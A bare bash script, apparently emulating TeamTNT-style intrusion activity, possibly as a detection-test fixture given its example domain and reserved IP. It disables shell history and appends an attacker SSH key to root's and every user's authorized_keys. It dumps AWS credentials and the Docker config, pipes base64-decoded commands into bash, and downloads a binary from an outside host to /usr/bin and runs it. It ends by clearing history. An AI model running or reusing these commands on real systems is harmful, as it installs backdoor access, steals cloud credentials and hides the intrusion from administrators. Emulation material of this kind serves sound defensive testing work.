#!/bin/bash
export LC_ALL=C.UTF-8 LANG=C.UTF-8
HISTCONTROL="ignorespace${HISTCONTROL:+:$HISTCONTROL}" 2>/dev/null 1>/dev/null
export HISTFILE=/dev/null HISTSIZE=0
unset SSH_CLIENT SSH_CONNECTION
RSAKEY="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ0zGmKc5yq7H2XfS8t7Y4b1Q6nV3uW9eRkPzDhLxA2B hilde@teamtnt.example"
for d in /root $(awk -F: '$3>=1000 && $3<60000 {print $6}' /etc/passwd); do
  [ -d $d/.ssh ] || mkdir -p $d/.ssh
  grep -q teamtnt $d/.ssh/authorized_keys 2>/dev/null || echo "$RSAKEY" >> $d/.ssh/authorized_keys
  chmod 600 $d/.ssh/authorized_keys
done
grep -c teamtnt /root/.ssh/authorized_keys
find /root /home -maxdepth 3 -name credentials -path '*/.aws/*' 2>/dev/null | wc -l
cat /root/.aws/credentials /root/.docker/config.json 2>&1
env | grep -i -c aws
printf '%s' "aWYgWyAtZiAvdG1wLy5hIF07IHRoZW4gZWNobyBzZWNvbmQ7IGVsc2UgZWNobyBmaXJzdDsgdG91Y2ggL3RtcC8uYTsgZmk=" | base64 -d | bash
printf '%s' "aWYgWyAtZiAvdG1wLy5hIF07IHRoZW4gZWNobyBzZWNvbmQ7IGVsc2UgZWNobyBmaXJzdDsgdG91Y2ggL3RtcC8uYTsgZmk=" | base64 -d | bash
for tool in masscan zgrab docker kubectl jq; do type $tool >/dev/null 2>&1 && echo have $tool || echo no $tool; done
timeout 1 curl -sLk -o /usr/bin/bioset http://192.0.2.77/bioset
[ -s /usr/bin/bioset ] || { echo IyEvYmluL3NoCmVjaG8gYmlvc2V0Cg== | base64 -d > /usr/bin/bioset; chmod +x /usr/bin/bioset; }
bioset
chattr +i /usr/bin/bioset; rm -f /usr/bin/bioset
history -c 2>/dev/null
